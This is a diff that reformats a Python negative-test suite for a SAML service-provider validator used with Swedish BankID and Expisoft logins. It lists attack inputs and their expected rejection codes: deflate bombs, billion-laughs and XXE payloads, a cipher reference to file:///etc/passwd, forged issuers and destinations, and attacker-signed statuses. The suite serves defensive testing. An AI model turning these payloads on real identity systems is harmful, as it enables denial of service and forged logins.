-    ("redirect-deflate-bomb", ErrorCode.INFLATED_TOO_LARGE, "A 13 kB value inflating to 10 MB of zeros; inflation stops at the cap.", lambda: encode_message(b"\0" * 10_000_000)),
-    ("redirect-deflate-bomb-of-xml", ErrorCode.INFLATED_TOO_LARGE, "A LogoutRequest padded with 5 MB of whitespace: well-formed XML, still over the cap.", lambda: encode_message(_LOGOUT_REQUEST.replace(b"<saml:NameID>", b" " * 5_000_000 + b"<saml:NameID>"))),
-    ("redirect-oversized-value", ErrorCode.RESPONSE_TOO_LARGE, "A value over the encoded cap: refused before it is decoded.", lambda: "A" * (MAX_ENCODED_CHARS + 4)),
-    ("redirect-non-base64", ErrorCode.RESPONSE_NOT_BASE64, "Characters outside the base64 alphabet.", lambda: "not*base64!"),
-    ("redirect-base64-with-spaces", ErrorCode.RESPONSE_NOT_BASE64, "'+' sent unencoded and read back as spaces: not repaired, refused.", lambda: encode_message(_LOGOUT_REQUEST).replace("+", " ").replace("A", " ", 1)),
-    ("redirect-base64-url-safe", ErrorCode.RESPONSE_NOT_BASE64, "The URL-safe base64 alphabet.", lambda: encode_message(_LOGOUT_REQUEST).replace("+", "-").replace("/", "_") + "-_"),
-    ("redirect-not-deflated", ErrorCode.DEFLATE_INVALID, "Base64 of plain XML, not DEFLATE.", lambda: b64(_LOGOUT_REQUEST)),
-    ("redirect-zlib-header", ErrorCode.DEFLATE_INVALID, "A zlib stream (with header and checksum) instead of raw DEFLATE.", lambda: b64(zlib.compress(_LOGOUT_REQUEST))),
-    ("redirect-trailing-bytes-after-stream", ErrorCode.DEFLATE_INVALID, "Bytes after the end of the DEFLATE stream (a second message for another parser).", lambda: b64(_raw_deflate(_LOGOUT_REQUEST) + b"<evil/>")),
-    ("redirect-truncated-stream", ErrorCode.DEFLATE_INVALID, "A DEFLATE stream cut short.", lambda: b64(_raw_deflate(_LOGOUT_REQUEST)[:-8])),
+    (
+        "redirect-deflate-bomb",
+        ErrorCode.INFLATED_TOO_LARGE,
+        "A 13 kB value inflating to 10 MB of zeros; inflation stops at the cap.",
+        lambda: encode_message(b"\0" * 10_000_000),
+    ),
+    (
+        "redirect-deflate-bomb-of-xml",
+        ErrorCode.INFLATED_TOO_LARGE,
+        "A LogoutRequest padded with 5 MB of whitespace: well-formed XML, still over the cap.",
+        lambda: encode_message(_LOGOUT_REQUEST.replace(b"<saml:NameID>", b" " * 5_000_000 + b"<saml:NameID>")),
+    ),
+    (
+        "redirect-oversized-value",
+        ErrorCode.RESPONSE_TOO_LARGE,
+        "A value over the encoded cap: refused before it is decoded.",
+        lambda: "A" * (MAX_ENCODED_CHARS + 4),
+    ),
+    (
+        "redirect-non-base64",
+        ErrorCode.RESPONSE_NOT_BASE64,
+        "Characters outside the base64 alphabet.",
+        lambda: "not*base64!",
+    ),
+    (
+        "redirect-base64-with-spaces",
+        ErrorCode.RESPONSE_NOT_BASE64,
+        "'+' sent unencoded and read back as spaces: not repaired, refused.",
+        lambda: encode_message(_LOGOUT_REQUEST).replace("+", " ").replace("A", " ", 1),
+    ),
+    (
+        "redirect-base64-url-safe",
+        ErrorCode.RESPONSE_NOT_BASE64,
+        "The URL-safe base64 alphabet.",
+        lambda: encode_message(_LOGOUT_REQUEST).replace("+", "-").replace("/", "_") + "-_",
+    ),
+    (
+        "redirect-not-deflated",
+        ErrorCode.DEFLATE_INVALID,
+        "Base64 of plain XML, not DEFLATE.",
+        lambda: b64(_LOGOUT_REQUEST),
+    ),
+    (
+        "redirect-zlib-header",
+        ErrorCode.DEFLATE_INVALID,
+        "A zlib stream (with header and checksum) instead of raw DEFLATE.",
+        lambda: b64(zlib.compress(_LOGOUT_REQUEST)),
+    ),
+    (
+        "redirect-trailing-bytes-after-stream",
+        ErrorCode.DEFLATE_INVALID,
+        "Bytes after the end of the DEFLATE stream (a second message for another parser).",
+        lambda: b64(_raw_deflate(_LOGOUT_REQUEST) + b"<evil/>"),
+    ),
+    (
+        "redirect-truncated-stream",
+        ErrorCode.DEFLATE_INVALID,
+        "A DEFLATE stream cut short.",
+        lambda: b64(_raw_deflate(_LOGOUT_REQUEST)[:-8]),
+    ),
     ("redirect-missing-message", ErrorCode.RESPONSE_MISSING, "No SAMLRequest parameter.", lambda: None),
-    ("redirect-attributes-on-one-element", ErrorCode.XML_TOO_MANY_ATTRIBUTES, "A LogoutRequest with 1,000 attributes on its root, under the node cap: refused before any canonicalisation.", lambda: encode_message(_LOGOUT_REQUEST.replace(b' Version="2.0"', b' Version="2.0" ' + b" ".join(b'a%04d=""' % i for i in range(1000))))),
-    ("redirect-too-many-nodes", ErrorCode.XML_TOO_MANY_NODES, "A LogoutRequest with 10,000 empty elements (60 kB inflated): refused before parsing.", lambda: encode_message(_LOGOUT_REQUEST.replace(b"<saml:NameID>", b"<x/>" * 10_000 + b"<saml:NameID>"))),
-    ("redirect-billion-laughs-inside", ErrorCode.XML_DTD_FORBIDDEN, "Billion laughs inside a valid DEFLATE stream: inflated within the cap, then refused by the parser.", lambda: encode_message(BILLION_LAUGHS)),
-    ("redirect-xxe-inside", ErrorCode.XML_DTD_FORBIDDEN, "An external entity inside a valid DEFLATE stream.", lambda: encode_message(XXE_FILE)),
+    (
+        "redirect-attributes-on-one-element",
+        ErrorCode.XML_TOO_MANY_ATTRIBUTES,
+        "A LogoutRequest with 1,000 attributes on its root, under the node cap: refused before any canonicalisation.",
+        lambda: encode_message(
+            _LOGOUT_REQUEST.replace(
+                b' Version="2.0"', b' Version="2.0" ' + b" ".join(b'a%04d=""' % i for i in range(1000))
+            )
+        ),
+    ),
+    (
+        "redirect-too-many-nodes",
+        ErrorCode.XML_TOO_MANY_NODES,
+        "A LogoutRequest with 10,000 empty elements (60 kB inflated): refused before parsing.",
+        lambda: encode_message(_LOGOUT_REQUEST.replace(b"<saml:NameID>", b"<x/>" * 10_000 + b"<saml:NameID>")),
+    ),
+    (
+        "redirect-billion-laughs-inside",
+        ErrorCode.XML_DTD_FORBIDDEN,
+        "Billion laughs inside a valid DEFLATE stream: inflated within the cap, then refused by the parser.",
+        lambda: encode_message(BILLION_LAUGHS),
+    ),
+    (
+        "redirect-xxe-inside",
+        ErrorCode.XML_DTD_FORBIDDEN,
+        "An external entity inside a valid DEFLATE stream.",
+        lambda: encode_message(XXE_FILE),
+    ),
 ]
 for _name, _code, _doc, _value in _REDIRECT_CASES:
     _b = (lambda value: lambda ctx, d: dict(query={} if value() is None else {"SAMLRequest": value()}))(_value)
@@ -1126,7 +1427,11 @@ def _enc_plain(ctx, d):
 @case("enc-encrypted-attribute", "encryption", ErrorCode.ENCRYPTED_ATTRIBUTE_FORBIDDEN)
 def _enc_attr(ctx, d):
     """An EncryptedAttribute in the AttributeStatement (a second layer the SP does not open)."""
-    return signed(ctx, d, mutate_assertion=lambda a: etree.SubElement(a.find("saml:AttributeStatement", NS), A + "EncryptedAttribute"))
+    return signed(
+        ctx,
+        d,
+        mutate_assertion=lambda a: etree.SubElement(a.find("saml:AttributeStatement", NS), A + "EncryptedAttribute"),
+    )
 
 
 @case("enc-encrypted-id", "encryption", ErrorCode.ENCRYPTED_ID_FORBIDDEN)
@@ -1138,13 +1443,28 @@ def _enc_id(ctx, d):
 @case("enc-rsa-1_5-key-transport", "algorithms", ErrorCode.ENCRYPTION_ALGORITHM_FORBIDDEN)
 def _enc_rsa15(ctx, d):
     """Key transport with RSA PKCS#1 v1.5 (Bleichenbacher padding oracle); refused before any decryption."""
-    return signed(ctx, d, mutate_response=reencrypting(ctx.keys.sp_encryption_cert, data_transform=T.AES256, key_transform=T.RSA_PKCS1, issue_instant=instant(ctx.now)))
+    return signed(
+        ctx,
+        d,
+        mutate_response=reencrypting(
+            ctx.keys.sp_encryption_cert,
+            data_transform=T.AES256,
+            key_transform=T.RSA_PKCS1,
+            issue_instant=instant(ctx.now),
+        ),
+    )
 
 
 @case("enc-3des-data-encryption", "algorithms", ErrorCode.ENCRYPTION_ALGORITHM_FORBIDDEN)
 def _enc_3des(ctx, d):
     """Data encrypted with 3DES-CBC."""
-    return signed(ctx, d, mutate_response=reencrypting(ctx.keys.sp_encryption_cert, data_transform=T.DES3, key_transform=T.RSA_OAEP, issue_instant=instant(ctx.now)))
+    return signed(
+        ctx,
+        d,
+        mutate_response=reencrypting(
+            ctx.keys.sp_encryption_cert, data_transform=T.DES3, key_transform=T.RSA_OAEP, issue_instant=instant(ctx.now)
+        ),
+    )
 
 
 @case("enc-oaep-with-md5-digest", "algorithms", ErrorCode.ENCRYPTION_ALGORITHM_FORBIDDEN)
@@ -1194,13 +1514,17 @@ def _cipher_reference(path: str):
 @case("enc-cipher-reference-in-encrypted-data", "encryption", ErrorCode.ENCRYPTION_PROFILE_VIOLATION)
 def _enc_cipher_reference_data(ctx, d):
     """The assertion's cipher text 'at' file:///etc/passwd (xmlsec would open the file): cipher text must be inline."""
-    return signed(ctx, d, mutate_response=_cipher_reference("saml:EncryptedAssertion/xenc:EncryptedData/xenc:CipherData"))
+    return signed(
+        ctx, d, mutate_response=_cipher_reference("saml:EncryptedAssertion/xenc:EncryptedData/xenc:CipherData")
+    )
 
 
 @case("enc-cipher-reference-in-encrypted-key", "encryption", ErrorCode.ENCRYPTION_PROFILE_VIOLATION)
 def _enc_cipher_reference_key(ctx, d):
     """The transported key 'at' file:///etc/passwd: the EncryptedKey's cipher text must be inline too."""
-    return signed(ctx, d, mutate_response=_cipher_reference("saml:EncryptedAssertion//xenc:EncryptedKey/xenc:CipherData"))
+    return signed(
+        ctx, d, mutate_response=_cipher_reference("saml:EncryptedAssertion//xenc:EncryptedKey/xenc:CipherData")
+    )
 
 
 @case("enc-foreign-element-in-encrypted-assertion", "encryption", ErrorCode.ENCRYPTION_PROFILE_VIOLATION)
@@ -1251,7 +1575,13 @@ def _enc_two(ctx, d):
 @case("enc-plain-and-encrypted-assertion", "encryption", ErrorCode.ASSERTION_COUNT)
 def _enc_plain_and(ctx, d):
     """A plain unsigned assertion beside the encrypted one, both under the Response signature."""
-    return signed(ctx, d, mutate_response=lambda r: r.find("saml:EncryptedAssertion", NS).addprevious(_evil_assertion(ctx, ctx.seed(d.name))))
+    return signed(
+        ctx,
+        d,
+        mutate_response=lambda r: r.find("saml:EncryptedAssertion", NS).addprevious(
+            _evil_assertion(ctx, ctx.seed(d.name))
+        ),
+    )
 
 
 @case("enc-success-without-assertion", "encryption", ErrorCode.ASSERTION_COUNT)
@@ -1262,21 +1592,75 @@ def _enc_none(ctx, d):
 
 # ---------------------------------------------------------------- addressing (checklist 5, 6)
 
-_simple("adr-destination-missing", "addressing", ErrorCode.DESTINATION_MISSING, "A signed Response without Destination (required when signed, DP 6.3.2).", destination=None)
-_simple("adr-destination-empty", "addressing", ErrorCode.DESTINATION_MISSING, "Destination=\"\".", destination="")
-_simple("adr-destination-other-host", "addressing", ErrorCode.DESTINATION_MISMATCH, "A Response addressed to another SP's ACS, forwarded here.", destination=EVIL + "/saml/acs")
-_simple("adr-destination-trailing-slash", "addressing", ErrorCode.DESTINATION_MISMATCH, "The ACS URL with a trailing slash: compared exactly.", destination=ACS_URL + "/")
-_simple("adr-destination-http-scheme", "addressing", ErrorCode.DESTINATION_MISMATCH, "The ACS URL over http:// instead of https://.", destination=ACS_URL.replace("https://", "http://"))
-_simple("adr-destination-upper-case-host", "addressing", ErrorCode.DESTINATION_MISMATCH, "The ACS URL with the host in upper case: compared exactly, not normalised.", destination=ACS_URL.replace("sp.example.test", "SP.EXAMPLE.TEST"))
-_simple("adr-destination-with-query", "addressing", ErrorCode.DESTINATION_MISMATCH, "The ACS URL with a query string appended.", destination=ACS_URL + "?next=" + EVIL)
-_simple("adr-recipient-other-host", "addressing", ErrorCode.RECIPIENT_MISMATCH, "SubjectConfirmationData Recipient is another SP's ACS.", recipient=EVIL + "/saml/acs")
-_simple("adr-audience-other-sp", "addressing", ErrorCode.AUDIENCE_MISMATCH, "An assertion for another SP in the federation.", audience="https://other-sp.example/sp")
+_simple(
+    "adr-destination-missing",
+    "addressing",
+    ErrorCode.DESTINATION_MISSING,
+    "A signed Response without Destination (required when signed, DP 6.3.2).",
+    destination=None,
+)
+_simple("adr-destination-empty", "addressing", ErrorCode.DESTINATION_MISSING, 'Destination="".', destination="")
+_simple(
+    "adr-destination-other-host",
+    "addressing",
+    ErrorCode.DESTINATION_MISMATCH,
+    "A Response addressed to another SP's ACS, forwarded here.",
+    destination=EVIL + "/saml/acs",
+)
+_simple(
+    "adr-destination-trailing-slash",
+    "addressing",
+    ErrorCode.DESTINATION_MISMATCH,
+    "The ACS URL with a trailing slash: compared exactly.",
+    destination=ACS_URL + "/",
+)
+_simple(
+    "adr-destination-http-scheme",
+    "addressing",
+    ErrorCode.DESTINATION_MISMATCH,
+    "The ACS URL over http:// instead of https://.",
+    destination=ACS_URL.replace("https://", "http://"),
+)
+_simple(
+    "adr-destination-upper-case-host",
+    "addressing",
+    ErrorCode.DESTINATION_MISMATCH,
+    "The ACS URL with the host in upper case: compared exactly, not normalised.",
+    destination=ACS_URL.replace("sp.example.test", "SP.EXAMPLE.TEST"),
+)
+_simple(
+    "adr-destination-with-query",
+    "addressing",
+    ErrorCode.DESTINATION_MISMATCH,
+    "The ACS URL with a query string appended.",
+    destination=ACS_URL + "?next=" + EVIL,
+)
+_simple(
+    "adr-recipient-other-host",
+    "addressing",
+    ErrorCode.RECIPIENT_MISMATCH,
+    "SubjectConfirmationData Recipient is another SP's ACS.",
+    recipient=EVIL + "/saml/acs",
+)
+_simple(
+    "adr-audience-other-sp",
+    "addressing",
+    ErrorCode.AUDIENCE_MISMATCH,
+    "An assertion for another SP in the federation.",
+    audience="https://other-sp.example/sp",
+)
 
 
 @case("adr-recipient-missing", "addressing", ErrorCode.RECIPIENT_MISMATCH)
 def _adr_recipient_missing(ctx, d):
     """SubjectConfirmationData without Recipient."""
-    return signed(ctx, d, mutate_assertion=lambda a: a.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS).attrib.pop("Recipient"))
+    return signed(
+        ctx,
+        d,
+        mutate_assertion=lambda a: a.find(
+            "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS
+        ).attrib.pop("Recipient"),
+    )
 
 
 @case("adr-audience-restriction-missing", "addressing", ErrorCode.AUDIENCE_MISMATCH)
@@ -1296,18 +1680,32 @@ def _adr_second_restriction(ctx, d):
 
     def add(a):
         cond = a.find("saml:Conditions", NS)
-        etree.SubElement(etree.SubElement(cond, A + "AudienceRestriction"), A + "Audience").text = "https://other-sp.example/sp"
+        etree.SubElement(
+            etree.SubElement(cond, A + "AudienceRestriction"), A + "Audience"
+        ).text = "https://other-sp.example/sp"
 
     return signed(ctx, d, mutate_assertion=add)
 
 
-_simple("adr-subject-confirmation-for-another-request", "addressing", ErrorCode.SUBJECT_CONFIRMATION_INVALID, "SubjectConfirmationData InResponseTo names another request than the Response.", confirmation_in_response_to="_another_request")
+_simple(
+    "adr-subject-confirmation-for-another-request",
+    "addressing",
+    ErrorCode.SUBJECT_CONFIRMATION_INVALID,
+    "SubjectConfirmationData InResponseTo names another request than the Response.",
+    confirmation_in_response_to="_another_request",
+)
 
 
 @case("adr-subject-confirmation-holder-of-key", "addressing", ErrorCode.SUBJECT_CONFIRMATION_INVALID)
 def _adr_hok(ctx, d):
     """A holder-of-key SubjectConfirmation where bearer is the profile."""
-    return signed(ctx, d, mutate_assertion=lambda a: a.find("saml:Subject/saml:SubjectConfirmation", NS).set("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"))
+    return signed(
+        ctx,
+        d,
+        mutate_assertion=lambda a: a.find("saml:Subject/saml:SubjectConfirmation", NS).set(
+            "Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"
+        ),
+    )
 
 
 @case("adr-two-subject-confirmations", "addressing", ErrorCode.SUBJECT_CONFIRMATION_INVALID)
@@ -1338,19 +1736,60 @@ def _timed(name, code, doc, **moments):
     case(name, "time", code)(build)
 
 
-_timed("time-conditions-not-before-just-outside-skew", ErrorCode.NOT_YET_VALID, "Conditions NotBefore one second beyond the clock skew.", not_before=_at(SKEW + 1))
-_timed("time-conditions-not-on-or-after-at-skew-boundary", ErrorCode.EXPIRED, "Conditions NotOnOrAfter exactly the skew ago: 'on or after' includes the boundary.", not_on_or_after=_at(-SKEW))
-_timed("time-confirmation-not-on-or-after-passed", ErrorCode.EXPIRED, "SubjectConfirmationData NotOnOrAfter passed (beyond the skew).", confirmation_not_on_or_after=_at(-SKEW - 1))
-_timed("time-response-issue-instant-too-old", ErrorCode.RESPONSE_TOO_OLD, "Response IssueInstant older than the maximum age plus skew.", response_issue_instant=_at(-MAX_AGE - SKEW - 1))
-_timed("time-assertion-issue-instant-too-old", ErrorCode.RESPONSE_TOO_OLD, "Assertion IssueInstant older than the maximum age plus skew.", assertion_issue_instant=_at(-MAX_AGE - SKEW - 1))
-_timed("time-response-issue-instant-in-future", ErrorCode.ISSUE_INSTANT_IN_FUTURE, "Response IssueInstant one second beyond the skew in the future.", response_issue_instant=_at(SKEW + 1))
-_timed("time-assertion-issue-instant-in-future", ErrorCode.ISSUE_INSTANT_IN_FUTURE, "Assertion IssueInstant one second beyond the skew in the future.", assertion_issue_instant=_at(SKEW + 1))
+_timed(
+    "time-conditions-not-before-just-outside-skew",
+    ErrorCode.NOT_YET_VALID,
+    "Conditions NotBefore one second beyond the clock skew.",
+    not_before=_at(SKEW + 1),
+)
+_timed(
+    "time-conditions-not-on-or-after-at-skew-boundary",
+    ErrorCode.EXPIRED,
+    "Conditions NotOnOrAfter exactly the skew ago: 'on or after' includes the boundary.",
+    not_on_or_after=_at(-SKEW),
+)
+_timed(
+    "time-confirmation-not-on-or-after-passed",
+    ErrorCode.EXPIRED,
+    "SubjectConfirmationData NotOnOrAfter passed (beyond the skew).",
+    confirmation_not_on_or_after=_at(-SKEW - 1),
+)
+_timed(
+    "time-response-issue-instant-too-old",
+    ErrorCode.RESPONSE_TOO_OLD,
+    "Response IssueInstant older than the maximum age plus skew.",
+    response_issue_instant=_at(-MAX_AGE - SKEW - 1),
+)
+_timed(
+    "time-assertion-issue-instant-too-old",
+    ErrorCode.RESPONSE_TOO_OLD,
+    "Assertion IssueInstant older than the maximum age plus skew.",
+    assertion_issue_instant=_at(-MAX_AGE - SKEW - 1),
+)
+_timed(
+    "time-response-issue-instant-in-future",
+    ErrorCode.ISSUE_INSTANT_IN_FUTURE,
+    "Response IssueInstant one second beyond the skew in the future.",
+    response_issue_instant=_at(SKEW + 1),
+)
+_timed(
+    "time-assertion-issue-instant-in-future",
+    ErrorCode.ISSUE_INSTANT_IN_FUTURE,
+    "Assertion IssueInstant one second beyond the skew in the future.",
+    assertion_issue_instant=_at(SKEW + 1),
+)
 
 
 @case("time-confirmation-not-before-in-future", "time", ErrorCode.NOT_YET_VALID)
 def _time_scd_nb(ctx, d):
     """SubjectConfirmationData NotBefore beyond the skew in the future."""
-    return signed(ctx, d, mutate_assertion=lambda a: a.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS).set("NotBefore", instant(ctx.now + dt.timedelta(seconds=SKEW + 1))))
+    return signed(
+        ctx,
+        d,
+        mutate_assertion=lambda a: a.find("saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData", NS).set(
+            "NotBefore", instant(ctx.now + dt.timedelta(seconds=SKEW + 1))
+        ),
+    )
 
 
 @case("time-issue-instant-without-time-zone", "time", ErrorCode.SCHEMA_INVALID)
@@ -1367,11 +1806,41 @@ def _time_garbage(ctx, d):
 
 # ---------------------------------------------------------------- request binding (checklist 4, 13)
 
-_simple("req-unsolicited-no-in-response-to", "request-binding", ErrorCode.UNSOLICITED_RESPONSE, "An IdP-initiated (unsolicited) Response: refused by default.", in_response_to=None)
-_simple("req-unknown-in-response-to", "request-binding", ErrorCode.REQUEST_UNKNOWN, "InResponseTo names a request this SP never sent.", in_response_to="_never_sent_by_this_sp")
-_simple("req-response-from-another-idp-than-asked", "request-binding", ErrorCode.ISSUER_MISMATCH, "A trusted IdP answers a request that went to another IdP (issuer confusion).", issuer=OTHER_IDP)
-_simple("req-issuer-unknown", "request-binding", ErrorCode.ISSUER_UNKNOWN, "An Issuer that is not in trusted metadata.", issuer=EVIL + "/idp")
-_simple("req-assertion-issuer-differs", "request-binding", ErrorCode.ISSUER_MISMATCH, "The assertion's Issuer differs from the Response's.", assertion_issuer=OTHER_IDP)
+_simple(
+    "req-unsolicited-no-in-response-to",
+    "request-binding",
+    ErrorCode.UNSOLICITED_RESPONSE,
+    "An IdP-initiated (unsolicited) Response: refused by default.",
+    in_response_to=None,
+)
+_simple(
+    "req-unknown-in-response-to",
+    "request-binding",
+    ErrorCode.REQUEST_UNKNOWN,
+    "InResponseTo names a request this SP never sent.",
+    in_response_to="_never_sent_by_this_sp",
+)
+_simple(
+    "req-response-from-another-idp-than-asked",
+    "request-binding",
+    ErrorCode.ISSUER_MISMATCH,
+    "A trusted IdP answers a request that went to another IdP (issuer confusion).",
+    issuer=OTHER_IDP,
+)
+_simple(
+    "req-issuer-unknown",
+    "request-binding",
+    ErrorCode.ISSUER_UNKNOWN,
+    "An Issuer that is not in trusted metadata.",
+    issuer=EVIL + "/idp",
+)
+_simple(
+    "req-assertion-issuer-differs",
+    "request-binding",
+    ErrorCode.ISSUER_MISMATCH,
+    "The assertion's Issuer differs from the Response's.",
+    assertion_issuer=OTHER_IDP,
+)
 
 
 @case("req-expisoft-answer-to-bankid-request", "request-binding", ErrorCode.ISSUER_MISMATCH)
@@ -1383,7 +1852,9 @@ def _req_cross_method(ctx, d):
 @case("req-two-issuers", "request-binding", ErrorCode.ISSUER_UNKNOWN)
 def _req_two_issuers(ctx, d):
     """Two Issuer elements on the Response (which is the sender?)."""
-    return signed(ctx, d, mutate_response=lambda r: r.find("saml:Issuer", NS).addnext(copy.deepcopy(r.find("saml:Issuer", NS))))
+    return signed(
+        ctx, d, mutate_response=lambda r: r.find("saml:Issuer", NS).addnext(copy.deepcopy(r.find("saml:Issuer", NS)))
+    )
 
 
 @case("req-browser-cookie-missing", "request-binding", ErrorCode.REQUEST_BROWSER_MISMATCH)
@@ -1426,9 +1897,27 @@ def _req_replay_restored(ctx, d):
 
 # ---------------------------------------------------------------- LoA and statements (checklist 7)
 
-_simple("loa-not-requested-loa2", "loa", ErrorCode.LOA_NOT_REQUESTED, "AuthnContextClassRef loa2: lower than any requested LoA.", loa="http://id.elegnamnden.se/loa/1.0/loa2")
-_simple("loa-nonresident-for-bankid", "loa", ErrorCode.LOA_NOT_REQUESTED, "loa3-nonresident (a real LoA, requested only for Expisoft) in a BankID login.", loa=LOA3_NONRESIDENT)
-_simple("loa-suffix-trick", "loa", ErrorCode.LOA_NOT_REQUESTED, "The requested LoA URI with a fragment appended (prefix matching would accept it).", loa=LOA3 + "#evil")
+_simple(
+    "loa-not-requested-loa2",
+    "loa",
+    ErrorCode.LOA_NOT_REQUESTED,
+    "AuthnContextClassRef loa2: lower than any requested LoA.",
+    loa="http://id.elegnamnden.se/loa/1.0/loa2",
+)
+_simple(
+    "loa-nonresident-for-bankid",
+    "loa",
+    ErrorCode.LOA_NOT_REQUESTED,
+    "loa3-nonresident (a real LoA, requested only for Expisoft) in a BankID login.",
+    loa=LOA3_NONRESIDENT,
+)
+_simple(
+    "loa-suffix-trick",
+    "loa",
+    ErrorCode.LOA_NOT_REQUESTED,
+    "The requested LoA URI with a fragment appended (prefix matching would accept it).",
+    loa=LOA3 + "#evil",
+)
 
 
 @case("loa-missing", "loa", ErrorCode.LOA_NOT_REQUESTED)
@@ -1502,13 +1991,55 @@ def _register_attr(name, code, doc, method, change):
     case(name, "attributes", code)(build)
 
 
-_register_attr("attr-org-affiliation-outside-idp-scope", ErrorCode.SCOPE_NOT_AUTHORISED, "orgAffiliation for an organisation that is not a shibmd:Scope of the IdP.", "expisoft", lambda at: at.__setitem__(ORG_AFFILIATION, ["x1@5560000019"]))
-_register_attr("attr-org-affiliation-scope-split-trick", ErrorCode.SCOPE_NOT_AUTHORISED, "uid@5560000001@5560000019: split at the last '@', the scope is the unauthorised one.", "expisoft", lambda at: at.__setitem__(ORG_AFFILIATION, ["x1@5560000001@5560000019"]))
-_register_attr("attr-personal-number-bad-check-digit", ErrorCode.PERSONAL_NUMBER_INVALID, "A personal identity number with a wrong check digit.", "bankid", lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["198001012388"]))
-_register_attr("attr-personal-number-with-hyphen", ErrorCode.PERSONAL_NUMBER_INVALID, "YYYYMMDD-NNNN: the attribute is 12 digits, no separator.", "bankid", lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["19800101-2387"]))
-_register_attr("attr-coordination-number", ErrorCode.COORDINATION_NUMBER_NOT_ACCEPTED, "A samordningsnummer (day + 60), not accepted by default.", "bankid", lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["199003652386"]))
-_register_attr("attr-two-personal-numbers", ErrorCode.ATTRIBUTE_MULTI_VALUED, "Two values of personalIdentityNumber (the attacker's and the victim's).", "bankid", lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, [PERSON_ATTRIBUTES[PERSONAL_IDENTITY_NUMBER][0], VICTIM_PNR]))
-_register_attr("attr-date-of-birth-disagrees", ErrorCode.ATTRIBUTE_VALUE_MALFORMED, "dateOfBirth that disagrees with the personal identity number.", "bankid", lambda at: at.__setitem__(DATE_OF_BIRTH, ["1975-12-24"]))
+_register_attr(
+    "attr-org-affiliation-outside-idp-scope",
+    ErrorCode.SCOPE_NOT_AUTHORISED,
+    "orgAffiliation for an organisation that is not a shibmd:Scope of the IdP.",
+    "expisoft",
+    lambda at: at.__setitem__(ORG_AFFILIATION, ["x1@5560000019"]),
+)
+_register_attr(
+    "attr-org-affiliation-scope-split-trick",
+    ErrorCode.SCOPE_NOT_AUTHORISED,
+    "uid@5560000001@5560000019: split at the last '@', the scope is the unauthorised one.",
+    "expisoft",
+    lambda at: at.__setitem__(ORG_AFFILIATION, ["x1@5560000001@5560000019"]),
+)
+_register_attr(
+    "attr-personal-number-bad-check-digit",
+    ErrorCode.PERSONAL_NUMBER_INVALID,
+    "A personal identity number with a wrong check digit.",
+    "bankid",
+    lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["198001012388"]),
+)
+_register_attr(
+    "attr-personal-number-with-hyphen",
+    ErrorCode.PERSONAL_NUMBER_INVALID,
+    "YYYYMMDD-NNNN: the attribute is 12 digits, no separator.",
+    "bankid",
+    lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["19800101-2387"]),
+)
+_register_attr(
+    "attr-coordination-number",
+    ErrorCode.COORDINATION_NUMBER_NOT_ACCEPTED,
+    "A samordningsnummer (day + 60), not accepted by default.",
+    "bankid",
+    lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, ["199003652386"]),
+)
+_register_attr(
+    "attr-two-personal-numbers",
+    ErrorCode.ATTRIBUTE_MULTI_VALUED,
+    "Two values of personalIdentityNumber (the attacker's and the victim's).",
+    "bankid",
+    lambda at: at.__setitem__(PERSONAL_IDENTITY_NUMBER, [PERSON_ATTRIBUTES[PERSONAL_IDENTITY_NUMBER][0], VICTIM_PNR]),
+)
+_register_attr(
+    "attr-date-of-birth-disagrees",
+    ErrorCode.ATTRIBUTE_VALUE_MALFORMED,
+    "dateOfBirth that disagrees with the personal identity number.",
+    "bankid",
+    lambda at: at.__setitem__(DATE_OF_BIRTH, ["1975-12-24"]),
+)
 
 
 @case("attr-personal-number-attribute-twice", "attributes", ErrorCode.ATTRIBUTE_VALUE_MALFORMED)
@@ -1528,14 +2059,23 @@ def _attr_twice(ctx, d):
 
 # ---------------------------------------------------------------- IdP status (checklist 10)
 
-_simple("status-unsigned-cancel", "status", ErrorCode.RESPONSE_NOT_SIGNED, "An unsigned 'cancel' status: even a failure page needs a signed Response.", sign_response=False, status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/cancel"))
+_simple(
+    "status-unsigned-cancel",
+    "status",
+    ErrorCode.RESPONSE_NOT_SIGNED,
+    "An unsigned 'cancel' status: even a failure page needs a signed Response.",
+    sign_response=False,
+    status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/cancel"),
+)
 
 
 @case("status-cancel-breaking-the-schema", "status", ErrorCode.SCHEMA_INVALID)
 def _status_schema(ctx, d):
     """A validly signed 'cancel' whose Response breaks the SAML schema: a failure answer is schema-checked too."""
     return signed(
-        ctx, d, status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/cancel"),
+        ctx,
+        d,
+        status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/cancel"),
         mutate_response=lambda r: etree.SubElement(r, P + "Unexpected"),
     )
 
@@ -1543,7 +2083,12 @@ def _status_schema(ctx, d):
 @case("status-fraud-signed-by-attacker", "status", ErrorCode.SIGNATURE_INVALID)
 def _status_fraud(ctx, d):
     """A forged 'fraud' status (to scare the user into a phishing flow), signed by the attacker."""
-    return signed(ctx, d, factory=ctx.attacker, status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/fraud"))
+    return signed(
+        ctx,
+        d,
+        factory=ctx.attacker,
+        status=("urn:oasis:names:tc:SAML:2.0:status:Responder", "http://id.elegnamnden.se/status/1.0/fraud"),
+    )
 
 
 # ---------------------------------------------------------------- open redirects (checklist 13)
@@ -1586,7 +2131,9 @@ def _relay_state_case(target):
 
 for _slug, _target in OPEN_REDIRECTS:
     _b = _relay_state_case(_target)
